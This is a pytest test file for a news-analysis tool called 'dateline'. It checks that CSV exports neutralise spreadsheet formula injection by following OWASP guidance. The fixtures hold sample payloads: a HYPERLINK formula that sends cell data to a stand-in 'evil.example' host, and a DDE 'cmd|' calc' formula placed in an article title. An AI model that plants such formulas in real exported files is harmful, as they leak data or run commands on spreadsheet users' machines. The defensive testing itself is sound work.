"""Every CSV dateline writes neutralises cells a spreadsheet would run as a formula (OWASP)."""
from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from dateline.cli import main
from dateline.model import Analysis, Article, Entity, Statement
from dateline.spreadsheet import safe_cell

# Cells starting like these are formulas to Excel, LibreOffice and Google Sheets.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TEXT = f'{HYPERLINK} said Karimi. Karimi said "-2+3 is the rate".'


@pytest.fixture()
def db(tmp_path) -> str:
    """A database with one article whose title, text and quoted words start like formulas."""
    from dateline.store import open_store

    path = str(tmp_path / "formulas.db")
    karimi = TEXT.index("Karimi")
    said = TEXT.index("said", karimi + 6)
    content = TEXT.index("-2+3")
    analysis = Analysis(
        Article(text=TEXT, title="@SUM(1+1)*cmd|' /C calc'!A0", url="https://x.example/a", published="2024-03-05"),
        entities=[Entity("E1", "Karimi", "PERSON", mentions=[(karimi, karimi + 6)])],
        statements=[Statement("S1", "E1", "Karimi", "Karimi", (karimi, karimi + 6), "said", (said, said + 4),
                              "-2+3 is the rate", (content, content + 16), "direct", (karimi, len(TEXT)))])
    with open_store(path) as store:
        store.save(analysis)
    return path


def csv_cells(output: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(output)) for cell in row]


def no_formula_cells(cells: list[str]) -> None:
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not risky


def test_export_csv_neutralises_formula_cells(db, tmp_path):
    runner = CliRunner()
    articles = runner.invoke(main, ["export", "--what", "articles", "--format", "csv", "--db", db])
    assert articles.exit_code == 0, articles.output
    cells = csv_cells(articles.stdout)
    no_formula_cells(cells)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and f"'{TEXT}" in cells
    out = tmp_path / "statements.csv"
    result = runner.invoke(main, ["export", "--what", "statements", "--format", "csv", "-o", str(out), "--db", db])
    assert result.exit_code == 0, result.output
    cells = csv_cells(out.read_text(encoding="utf-8"))
    no_formula_cells(cells)
    assert "'-2+3 is the rate" in cells and "-2+3 is the rate" not in cells


def test_listing_commands_in_csv_format_neutralise_formula_cells(db):
    result = CliRunner().invoke(main, ["statements", "--speaker", "Karimi", "--format", "csv", "--db", db])
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.stdout)
    no_formula_cells(cells)
    assert "'-2+3 is the rate" in cells


def test_safe_cell_follows_owasp():
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(risky) == "'" + risky
    # Numbers stay numbers (a negative one is not a formula); other text is unchanged.
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("Kabul") == "Kabul" and safe_cell("'quoted") == "'quoted" and safe_cell("") == ""
